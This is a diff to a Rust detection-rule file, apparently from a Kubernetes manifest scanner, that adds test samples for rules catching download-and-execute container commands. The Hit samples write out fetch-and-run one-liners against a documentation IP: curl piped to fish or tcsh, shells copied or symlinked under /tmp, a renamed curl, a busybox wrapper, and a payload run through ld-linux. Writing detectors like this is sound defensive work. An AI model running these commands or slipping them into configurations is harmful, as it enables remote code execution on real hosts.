@@ -8,7 +8,7 @@ use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
 use crate::detect::code;
 use crate::detect::findings::Collector;
-pub(super) use crate::detect::flow::is_downloader;
+pub(in crate::detect) use crate::detect::flow::is_downloader;
 use crate::detect::flow::{At, Kind, Ran, Reached, fetches, prints_fetched};
 use crate::normalize::Invocation;
 use crate::normalize::exec::is_shell;
@@ -132,6 +132,40 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [bash, -c, 'read -r -d E x < <(curl -s http://192.0.2.10/s); eval \"$x\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | fish']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | tcsh -f']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /tmp/log; curl -s http://192.0.2.10/s | /tmp/log']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'ln -s /bin/bash /tmp/b; curl -s http://192.0.2.10/s | /tmp/b']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cp $(command -v curl) /tmp/a; /tmp/a -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl-8.5.0 -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /rescue/sh; curl -s http://svc/x | /app/log']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, '[ -x \"$(command -v curl)\" ] && \"$(which curl)\" -s http://svc/health']}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; cat /tmp/v; echo id | sh']}]",
@@ -306,6 +340,13 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/x http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /tmp/x']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
             ),
             Sample::Miss(
                 "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
